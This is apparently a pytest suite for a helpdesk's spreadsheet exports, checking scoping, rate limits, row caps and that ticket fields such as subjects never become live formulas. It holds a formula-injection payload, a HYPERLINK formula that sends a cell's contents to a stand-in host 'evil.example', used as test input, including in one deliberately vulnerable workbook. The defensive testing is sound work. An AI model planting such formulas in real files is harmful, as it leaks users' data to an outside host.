"""Spreadsheet (XLSX) exports, read as a spreadsheet program reads them (support/xlsx.py): a queue's
tickets, the same as its CSV file, and a report's tables, numbers as numbers; no cell is ever a
formula; the same people get the same tickets as from the CSV file; too large a queue is refused."""
from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import pytest

from helpdesk import tickets
from helpdesk.extensions import db
from helpdesk.models import Setting
from helpdesk.tickets import workbook
from hostile import FORMULA_PAYLOADS
from support import xlsx
from test_export import HEADER, mix  # noqa: F401 - the fixture

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
WEEK = "period=custom&from=2026-03-16&to=2026-03-23"  # the clock fixture's Monday is the last day


def read(response, name_pattern: str) -> xlsx.Sheet:
    """The spreadsheet a response carries, after checking it is one, to be saved and never cached."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.headers["Content-Type"] == XLSX
    assert re.fullmatch(f"attachment; filename={name_pattern}", response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "private, no-store"
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    return xlsx.read(response.get_data())


def queue_sheet(client, query: str = "", name: str = "open") -> xlsx.Sheet:
    return read(client.get(f"/agent/queue/{name}/export.xlsx?{query}"), rf"tickets-{name}-\d{{4}}-\d\d-\d\d\.xlsx")


def csv_rows(client, query: str = "", name: str = "open") -> list[list[str]]:
    text = client.get(f"/agent/queue/{name}/export.csv?{query}").get_data().decode("utf-8")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def numbers(sheet: xlsx.Sheet) -> list[str]:
    return [c.value for c in sheet.column("Number")]


def assert_no_formula(sheet: xlsx.Sheet) -> None:
    cells = [c for row in sheet.rows for c in row if c is not None]
    assert not [c for c in cells if c.type == "formula"], "a cell is a formula"
    live = [c.value for c in cells if c.type == "string" and c.value[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"strings a spreadsheet would read as formulas: {live}"


# --- a queue ------------------------------------------------------------------------------------


def test_the_queue_as_a_spreadsheet_holds_what_its_csv_file_holds(client, desk, mix, login):  # noqa: F811
    db.session.add(Setting(key="timezone", value="Europe/Berlin"))
    db.session.commit()
    login(desk.manager)
    sheet = queue_sheet(client, "sort=number&dir=asc")
    assert [c.value for c in sheet.rows[0]] == HEADER
    assert all(c.bold for c in sheet.rows[0]) and not any(c and c.bold for c in sheet.rows[1])
    assert sheet.frozen_rows == 1
    assert sheet.widths[HEADER.index("Subject")] > sheet.widths[HEADER.index("Source")] >= 8
    # The same tickets in the same order, the same text in every column but the times.
    table = csv_rows(client, "sort=number&dir=asc")
    assert numbers(sheet) == [row[0] for row in table[1:]] and len(table) == 5
    times = {HEADER.index(h) for h in ("Created", "Last update", "Due", "Resolved", "Closed")}
    for cells, row in zip(sheet.rows[1:], table[1:]):
        for i, text in enumerate(row):
            cell = cells[i] if i < len(cells) else None
            if i in times:
                assert (cell is None) == (text == "")
            else:
                assert (cell.value if cell else "") == text, HEADER[i]
                assert cell is None or cell.type == "string"
    # Times are dates (numbers with a date format) of the desk's wall time.
    vpn = mix["vpn"]
    db.session.refresh(vpn)
    created = sheet.column("Created")[numbers(sheet).index(vpn.number)]
    assert created.type == "number" and created.format == "yyyy-mm-dd hh:mm"
    wall = vpn.created_at.replace(tzinfo=timezone.utc).astimezone(ZoneInfo("Europe/Berlin")).replace(tzinfo=None)
    assert created.value == pytest.approx((wall - datetime(1899, 12, 30)) / timedelta(days=1), abs=1e-6)
    overdue = dict(zip(numbers(sheet), (c.value for c in sheet.column("Overdue"))))
    assert overdue[mix["late"].number] == "yes" and overdue[vpn.number] == "no"


def test_a_hostile_subject_is_text_with_a_leading_quote(client, desk, make_ticket, login):
    ticket = make_ticket(subject=HOSTILE, name=FORMULA_PAYLOADS[2], email="=1+2@example.net")
    login(desk.manager)
    sheet = queue_sheet(client)
    row = sheet.rows[numbers(sheet).index(ticket.number) + 1]
    subject = row[HEADER.index("Subject")]
    assert subject.type == "string" and subject.value == "'" + HOSTILE
    assert row[HEADER.index("Customer name")].value == "'" + FORMULA_PAYLOADS[2]
    assert row[HEADER.index("Customer email")].value == "'=1+2@example.net"
    assert_no_formula(sheet)


def test_the_check_catches_a_formula(app):
    """The deliberately vulnerable variant: a cell written as a formula is caught by the reader."""
    book_file = io.BytesIO()
    import xlsxwriter

    book = xlsxwriter.Workbook(book_file)
    book.add_worksheet().write("A1", HOSTILE)  # write() makes a string starting with = a formula
    book.close()
    with pytest.raises(AssertionError, match="a cell is a formula"):
        assert_no_formula(xlsx.read(book_file.getvalue()))


def test_an_agent_exports_only_what_their_queue_shows(client, desk, mix, login):  # noqa: F811
    login(desk.tech)  # Support and Senior Support
    tech = numbers(queue_sheet(client))
    assert mix["it"].number not in tech and mix["printer"].number in tech
    assert sorted(tech) == sorted(row[0] for row in csv_rows(client)[1:])
    login(desk.sysadmin)  # IT Operations
    assert numbers(queue_sheet(client)) == [mix["it"].number]
    # Another department's figure: not a filter the agent is offered, so refused, not emptied.
    it_ops = desk.departments["IT Operations"].id
    login(desk.tech)
    refused = client.get(f"/agent/queue/all/export.xlsx?drill=created&{WEEK}&department={it_ops}")
    assert refused.status_code == 400
    assert "no such department to filter by" in refused.get_data(as_text=True)
    # A figure's tickets: those the agent's reports count (their own and their teams'), as in the CSV file.
    drilled = numbers(queue_sheet(client, f"drill=open&{WEEK}", name="all"))
    assert drilled == [row[0] for row in csv_rows(client, f"drill=open&{WEEK}", name="all")[1:]]
    assert sorted(drilled) == sorted([mix["vpn"].number, mix["pending"].number])  # assigned to them


@pytest.mark.parametrize("query, message", [
    ("drill=everything", "That figure is not one the reports show."),
    ("drill=created&period=custom&from=2026-03-20&to=2026-03-01", "The range ends before it starts"),
    ("drill=aged&age=forever", "That age band is not one the reports show."),
])
def test_a_figure_that_cannot_be_read_is_a_400(client, desk, mix, login, query, message):  # noqa: F811
    login(desk.manager)
    response = client.get(f"/agent/queue/all/export.xlsx?{query}")
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    assert response.headers["Content-Type"].startswith("text/html")


def test_visitors_and_unknown_queues(client, desk, mix, login):  # noqa: F811
    response = client.get("/agent/queue/open/export.xlsx")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login?next=")
    login(desk.tech)
    assert client.get("/agent/queue/everything/export.xlsx").status_code == 404


def test_a_queue_too_large_for_a_spreadsheet_is_refused(client, desk, make_ticket, login, monkeypatch):
    for n in range(3):
        make_ticket(subject=f"Many {n}")
    monkeypatch.setattr(workbook, "MAX_ROWS", 2)
    login(desk.manager)
    response = client.get("/agent/queue/open/export.xlsx")
    assert response.status_code == 400
    assert "more than 2 tickets, more than a spreadsheet export holds" in response.get_data(as_text=True)
    monkeypatch.setattr(workbook, "MAX_ROWS", 3)
    assert len(numbers(queue_sheet(client))) == 3


def test_spreadsheet_exports_are_rate_limited_per_agent(app_config, app, desk, make_ticket):
    """Each reads a whole queue, like the CSV file: 10 a minute per agent."""
    import secrets

    from helpdesk import create_app

    make_ticket()
    limited = create_app({**app_config, "RATELIMIT_ENABLED": True,
                          "RATELIMIT_KEY_PREFIX": f"test-{secrets.token_hex(4)}"})
    with limited.app_context():
        tech = limited.test_client()
        response = tech.post("/login", data={"email": desk.tech.email, "password": desk.passwords[desk.tech.email]})
        assert response.status_code == 302
        for _ in range(10):
            assert tech.get("/agent/queue/open/export.xlsx").status_code == 200
        refused = tech.get("/agent/queue/open/export.xlsx")
        assert refused.status_code == 429
        assert "Too many exports in a short time" in refused.get_data(as_text=True)
        db.session.remove()
        db.engine.dispose()


def test_a_large_queue_is_read_a_chunk_at_a_time(client, desk, make_ticket, login, monkeypatch):
    from helpdesk.tickets import export

    for n in range(5):
        make_ticket(subject=f"Chunked {n}")
    reads = []
    real = export._columns

    def counted(now):
        columns = real(now)

        class Statement:
            def where(self, *criteria):
                reads.append(1)
                return columns.where(*criteria)

        return Statement()

    monkeypatch.setattr(export, "CHUNK", 2)
    monkeypatch.setattr(export, "_columns", counted)
    login(desk.manager)
    assert len(numbers(queue_sheet(client))) == 5
    assert len(reads) == 3


def test_the_queue_page_links_to_both_files_with_its_filters(client, desk, mix, login):  # noqa: F811
    login(desk.manager)
    page = client.get("/agent/?q=printer&sort=number&dir=asc").get_data(as_text=True)
    csv_link = re.search(r'id="export-csv" href="([^"]+)"', page).group(1).replace("&amp;", "&")
    xlsx_link = re.search(r'id="export-xlsx" href="([^"]+)" download', page).group(1).replace("&amp;", "&")
    assert xlsx_link == csv_link.replace("export.csv", "export.xlsx") == \
        "/agent/queue/open/export.xlsx?q=printer&sort=number&dir=asc"
    assert numbers(read(client.get(xlsx_link), r".*")) == [mix["printer"].number]


# --- a report's tables --------------------------------------------------------------------------


@pytest.fixture
def week_of_work(desk, make_ticket, clock):
    """Tickets of the week to 23 March: two created on Thursday, one resolved 90 minutes later
    (round-the-clock plan: 1.5 hours on both clocks), one left open past its target."""
    thursday = datetime(2026, 3, 19, 10, 0)
    clock.set(thursday)
    fixed = make_ticket("Business Critical Outage", subject="Fixed fast")
    late = make_ticket("Business Critical Outage", subject=HOSTILE)
    clock.set(thursday + timedelta(minutes=90))
    tickets.claim(desk.tech, fixed)
    tickets.resolve(desk.tech, fixed, "Restarted the service.")
    clock.set(datetime(2026, 3, 23, 8, 0))
    return {"fixed": fixed, "late": late}


def report_sheet(client, key: str) -> xlsx.Sheet:
    return read(client.get(f"/agent/reports/{key}.xlsx?{WEEK}"), rf"report-{key}-2026-03-16-2026-03-23\.xlsx")


def test_report_tables_have_numbers_percentages_and_hours(client, desk, week_of_work, login):
    login(desk.manager)
    volume = report_sheet(client, "volume")
    assert [c.value for c in volume.rows[0]] == ["Day", "Created", "Resolved", "Open at the end"]
    assert volume.frozen_rows == 1 and all(c.bold for c in volume.rows[0])
    thursday = volume.rows[1 + 3]
    assert thursday[0].value == "19 Mar" and thursday[0].type == "string"
    assert [(c.value, c.type) for c in thursday[1:3]] == [(2.0, "number"), (1.0, "number")]

    sla = report_sheet(client, "sla_by_plan")
    emergency = next(row for row in sla.rows[1:] if row[0].value == "Emergency")
    resolved_in_time = emergency[[c.value for c in sla.rows[0]].index("Resolved in time")]
    assert resolved_in_time.type == "number" and resolved_in_time.value == pytest.approx(0.5)
    assert resolved_in_time.format == "0.0%"

    times = report_sheet(client, "times")
    header = [c.value for c in times.rows[0]]
    assert header[2:] == ["Median (SLA hours)", "90th percentile (SLA hours)", "Median (wall clock) (hours)",
                          "90th percentile (wall clock) (hours)"]
    resolution = next(row for row in times.rows[1:] if row[0].value == "Resolution")
    assert [(c.value, c.format) for c in resolution[2:]] == [(1.5, "0.0")] * 4
    # Each column is as wide as what it holds (within bounds).
    assert times.widths[0] >= len("First response") and max(times.widths.values()) <= workbook.WIDTH_MAX


def test_a_report_table_with_a_hostile_subject(client, desk, week_of_work, login):
    login(desk.manager)
    breaches = report_sheet(client, "breaches")
    subjects = [c.value for c in breaches.column("Subject")]
    assert subjects == ["'" + HOSTILE]
    assert_no_formula(breaches)
    assert breaches.name == "SLA breaches"


def test_report_exports_keep_the_viewers_scope(client, desk, week_of_work, login):
    login(desk.sysadmin)  # IT Operations: none of the week's tickets (Support) are theirs
    volume = report_sheet(client, "volume")
    assert sum(row[1].value for row in volume.rows[1:]) == 0
    assert client.get(f"/agent/reports/nothing.xlsx?{WEEK}").status_code == 404
    assert client.get("/agent/reports/volume.xlsx?period=someday").status_code == 400
    client.post("/logout")
    assert client.get(f"/agent/reports/volume.xlsx?{WEEK}").status_code == 302


def test_the_dashboard_offers_each_table_as_csv_and_xlsx(client, desk, week_of_work, login):
    login(desk.manager)
    page = client.get(f"/agent/reports?{WEEK}").get_data(as_text=True)
    csv_links = re.findall(r'href="(/agent/reports/[a-z_]+\.csv\?[^"]*)"', page)
    xlsx_links = re.findall(r'href="(/agent/reports/[a-z_]+\.xlsx\?[^"]*)"', page)
    assert len(csv_links) > 10 and [link.replace(".xlsx", ".csv") for link in xlsx_links] == csv_links
    for link in xlsx_links:
        assert client.get(link.replace("&amp;", "&")).status_code == 200, link
    printable = client.get(f"/agent/reports?{WEEK}&print=1").get_data(as_text=True)
    assert ".xlsx" not in printable
